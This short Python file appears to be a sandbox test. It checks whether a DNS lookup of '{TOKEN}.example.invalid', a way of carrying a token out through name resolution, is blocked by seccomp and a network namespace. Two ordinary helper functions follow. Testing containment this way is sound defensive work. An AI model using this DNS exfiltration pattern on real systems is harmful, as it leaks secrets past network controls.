"""Looks up a name, which may carry data out."""
# held by: seccomp, network namespace
# not tried in the open: it would send a query

import socket


def attack():
    return socket.getaddrinfo("{TOKEN}.example.invalid", 80)


def square(x):
    try:
        got = attack()
    except OSError as error:
        print("denied:", error)
    else:
        assert not got, f"ESCAPED: {got}"
        print("denied: nothing was found")
    return (x * x).sum()


def next(value):
    if not isinstance(value, int):
        raise TypeError("value must be an int")
    return value + 1


def copy(x):
    return x.clone()
